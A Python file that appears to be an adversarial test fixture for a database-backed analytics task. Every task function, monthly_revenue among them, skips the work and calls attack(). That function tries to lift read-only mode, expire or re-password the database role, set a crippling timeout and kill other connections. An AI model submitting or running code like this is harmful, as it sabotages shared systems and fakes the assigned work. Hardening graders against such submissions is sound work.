import os

import psycopg

URL = os.environ["DATABASE_URL"]


def trying(connection, *statements):
    """What came of statements that should not succeed."""
    found = []
    for statement in statements:
        try:
            found.append(str(connection.execute(statement).statusmessage))
        except psycopg.Error as error:
            found.append(str(error))
    return found


def attack():
    with psycopg.connect(URL, autocommit=True) as connection:
        trying(
            connection,
            "SET default_transaction_read_only = off",
            "ALTER ROLE CURRENT_USER SET search_path = pg_catalog",
            "ALTER ROLE CURRENT_USER SET statement_timeout = 1",
            "ALTER ROLE CURRENT_USER VALID UNTIL '2000-01-01'",
            "ALTER ROLE CURRENT_USER PASSWORD 'mine'",
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
        )
    return []


def monthly_revenue(first_month, last_month):
    return attack()


def top_customers(places):
    return attack()


def cohort_retention(first_month, last_month):
    return attack()


def category_share(first_day, last_day):
    return attack()


def quiet_customers(first_day, last_day):
    return attack()


def day_book(day):
    return attack()
